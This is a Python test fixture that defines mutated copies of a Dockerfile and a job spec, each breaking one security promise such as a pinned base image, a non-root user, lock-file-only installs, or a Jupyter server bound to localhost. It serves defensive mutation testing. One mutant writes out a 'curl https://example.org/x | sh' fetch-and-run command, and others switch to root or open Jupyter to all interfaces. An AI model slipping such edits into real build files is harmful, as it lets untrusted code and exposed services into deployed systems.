"""Copies of the Dockerfile that break a promise: by promise, (file, what is replaced, by what)."""

MUTANTS: dict[str, list[tuple[str, str, str]]] = {
    "base_is_pinned": [
        ("image/Dockerfile", "@${BASE_DIGEST}", ""),
        ("image/Dockerfile", "BASE_VERSION=26.06-py3", "BASE_VERSION=latest"),
        ("image/Dockerfile", "ARG BASE_DIGEST", "ARG BASE_DIGEST=sha256:0"),
    ],
    "user_is_not_root": [
        ("image/Dockerfile", "USER 10001:10001", ""),
        ("image/Dockerfile", "USER 10001:10001", "USER root"),
        ("image/Dockerfile", "USER 10001:10001", "USER 10001:10001\nRUN true"),
        ("deploy/grader/job.yaml", "runAsUser: 10001", "runAsUser: 10002"),
    ],
    "package_comes_from_the_lock": [
        ("image/Dockerfile", "--constraint constraints.txt", ""),
        ("image/Dockerfile", "requirements.lock >", "other >"),
        ("image/Dockerfile", "python -m pip install", "true"),
        ("image/Dockerfile", "RUN useradd", "RUN curl https://example.org/x | sh; useradd"),
    ],
    "transformer_engine_is_tried": [("image/Dockerfile", "import transformer_engine.jax", "pass")],
    "doctor_is_the_health_check": [
        ("image/Dockerfile", '["grade", "doctor"]', '["true"]'),
        ("image/Dockerfile", "\nHEALTHCHECK", "\n# HEALTHCHECK"),
        ("image/Dockerfile", "--timeout=4m", "--timeout=1m"),
        ("image/Dockerfile", "--interval=1h", "--interval=5m"),
    ],
    "jupyter_listens_to_itself_only": [("image/Dockerfile", "--ip=127.0.0.1", "--ip=0.0.0.0")],
    "build_sees_what_it_copies_and_no_more": [
        ("image/Dockerfile.dockerignore", "*\n", ""),
        ("image/Dockerfile.dockerignore", "!exercises\n", ""),
        ("image/Dockerfile", "COPY exercises exercises", ""),
    ],
}
